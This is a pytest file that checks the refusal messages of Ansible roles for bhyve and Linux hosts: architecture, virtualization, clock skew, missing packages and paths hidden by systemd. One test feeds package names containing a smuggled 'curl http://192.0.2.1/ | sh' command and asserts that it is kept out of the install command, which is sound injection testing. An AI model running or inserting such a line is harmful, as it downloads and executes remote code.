# SPDX-License-Identifier: BSD-2-Clause
# ruff: noqa: S108 - the paths are texts, and nothing is made there
"""What roles refuse by what a machine has said: each refusal begins with its reason, and ends with a remedy."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from shai_operator.providers.process import COLLECTION

_ROLES = COLLECTION / "roles"
_SYSTEM = ("bhyve_host", "check.yml", "Check the host's system and processor")
_VMM = ("bhyve_host", "programs.yml", "Check that the processor can run virtual machines")
_CLOCK = ("freebsd_guest", "clock.yml", "Check the guest's clock")
_HOST_CLOCK = ("linux_host", "main.yml", "Check the host's clock")
_HIDDEN = ("linux_member", "hidden.yml", "Check that the services see what they are given")
_PROGRAMS = ("linux_host", "main.yml", "Check that the host has all programs")


def checked(tmp_path: Path, check: tuple[str, str, str], **registered: Any) -> tuple[bool, str]:
    """Run one task of a role on what earlier ones have registered; return whether it passes, and the output."""
    role, file, name = check
    tasks = yaml.safe_load((_ROLES / role / "tasks" / file).read_text())
    tasks += [inner for outer in tasks for inner in outer.get("block", ())]
    task = next(task for task in tasks if task["name"] == name)
    files = [_ROLES / role / folder / "main.yml" for folder in ("defaults", "vars")]
    play = {
        "hosts": "localhost", "connection": "local", "gather_facts": False,
        "vars_files": [str(path) for path in files if path.exists()],
        "tasks": [task],
    }  # fmt: skip
    (tmp_path / "play.yml").write_text(json.dumps([play]))
    done = subprocess.run(
        [Path(sys.executable).parent / "ansible-playbook", "--inventory=localhost,",
         "--extra-vars", json.dumps(registered), tmp_path / "play.yml"],
        env={**os.environ, "ANSIBLE_HOME": str(tmp_path), "NO_COLOR": "1"},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    return done.returncode == 0, " ".join(done.stdout.split())


@pytest.mark.parametrize(
    ("said", "wanted"),
    [
        (["FreeBSD", "amd64", "bootrom"], ""),
        (
            ["FreeBSD", "aarch64", "bootrom"],
            "ArchitectureMismatch: the image is for amd64, and the host is aarch64: choose",
        ),
        (
            ["Linux", "amd64", "bootrom"],
            "NoVirtualization: the host runs Linux, and bhyve is a part of FreeBSD: choose",
        ),
        (["FreeBSD", "amd64"], "NoVirtualization: the host has no boot ROM /rom: install it (pkg install edk2-bhyve)"),
    ],
)
def test_a_host_that_cannot_run_the_image_is_named(tmp_path: Path, said: list[str], wanted: str) -> None:
    found = {"bhyve_host_found": {"stdout_lines": said}, "bhyve_host_image": {"architecture": "amd64"}}
    passed, printed = checked(tmp_path, _SYSTEM, **found, bhyve_host_bootrom="/rom")
    assert (passed, wanted in printed) == (not wanted, True), printed


@pytest.mark.parametrize(
    ("check", "role", "behind"),
    [
        (_CLOCK, "freebsd_guest", -100_000),
        (_CLOCK, "freebsd_guest", 0),
        (_HOST_CLOCK, "linux_host", 3600),
        (_HOST_CLOCK, "linux_host", 0),
    ],
)
def test_a_clock_that_is_wrong_is_named(tmp_path: Path, check: tuple[str, str, str], role: str, behind: int) -> None:
    """The limit is far from what the run itself takes."""
    now = subprocess.run(["date", "+%s"], capture_output=True, text=True, check=True).stdout
    said = {f"{role}_time": {"stdout": str(int(now) - behind)}}
    passed, printed = checked(tmp_path, check, **said)
    assert passed is (behind == 0), printed
    if behind:
        assert re.search(r"ClockSkew: the (host|guest)'s clock differs from the operator's by more than 300 s", printed)
        assert re.search(r"set the (clock of the host|wrong one), and .* time server", printed)


def test_a_host_without_virtualization_is_named(tmp_path: Path) -> None:
    said = {"rc": 1, "stdout": "kldload: can't load vmm\nvmm: processor does not support desired features"}
    passed, printed = checked(tmp_path, _VMM, bhyve_host_vmm=said)
    assert not passed
    assert "NoVirtualization: the module vmm does not start on this host, which says: kldload: can't load" in printed
    assert "switched on in the firmware" in printed
    assert checked(tmp_path, _VMM, bhyve_host_vmm={"rc": 0, "stdout": "loaded"})[0]


@pytest.mark.parametrize(
    ("said", "named"),
    [
        (["image"], ""),
        (
            ["util-linux", "supervisor", "redis-tools", "redis-server", "openssl"],
            "openssl redis-server redis-tools supervisor util-linux",
        ),
        (["openssl", "x; curl http://192.0.2.1/ | sh", "image"], "openssl"),
        (["x; curl http://192.0.2.1/ | sh"], ""),
    ],
)
def test_only_packages_that_were_asked_about_are_in_the_command(tmp_path: Path, said: list[str], named: str) -> None:
    passed, printed = checked(tmp_path, _PROGRAMS, linux_host_lacking={"stdout_lines": said})
    assert (passed, "curl" in printed) == (not named, False), printed
    assert not named or f"(apt-get install --no-install-recommends {named})" in printed


def test_every_package_that_is_asked_about_can_be_named() -> None:
    asked = re.findall(
        r"lacks \S+ (\S+)$|\|\| echo (\S+)$", (_ROLES / "linux_host/tasks/main.yml").read_text(), re.MULTILINE
    )
    named = yaml.safe_load((_ROLES / "linux_host/vars/main.yml").read_text())["linux_host_packages"]
    assert {"".join(words) for words in asked} - {"image"} == set(named)


_SEEN = {
    "linux_member_name": "web-0",
    "linux_member_pool_directory": "/srv/shai",
    "linux_member_image_digest": "a",
    "linux_member_runtimes": [{"name": "a", "paths": ["/tmpfiles", "/srv/tmp", "$(IMAGE)/tmp", "$(TOOLS)/bin"]}],
    "linux_member_variables": [{"name": "OTHER", "value": "/tmp/x"}, {"name": "TOOLS", "value": "/srv/tools"}],
    "linux_member_sources": ["https://a.example/tmp/", "unix:/run/x.sock"],
}
_UNSEEN = {
    "linux_member_pool_directory": "/tmp/shai",
    "linux_member_runtimes": [{"name": "a", "paths": ["/usr/lib", "/var/tmp", "$(TOOLS)/bin"]}],
    "linux_member_variables": [{"name": "TOOLS", "value": "/tmp/tools"}],
    "linux_member_sources": ["unix:/var/tmp/x.sock"],
}
_NAMED = "/tmp/shai/web-0, /tmp/shai/web-0/data, /var/tmp, /tmp/tools, /var/tmp/x.sock: services of this host have a"


@pytest.mark.parametrize(("given", "named"), [({}, ""), (_UNSEEN, _NAMED)])
def test_what_systemd_would_hide_from_a_member_is_named(tmp_path: Path, given: dict[str, Any], named: str) -> None:
    """Where supervisord runs the services, they see it: test_local.py has members there."""
    systemd = {"linux_member_systemd": {"stat": {"exists": True}}}
    passed, printed = checked(tmp_path, _HIDDEN, **{**_SEEN, **given, **systemd})
    assert (passed, named in printed) == (not named, True), printed
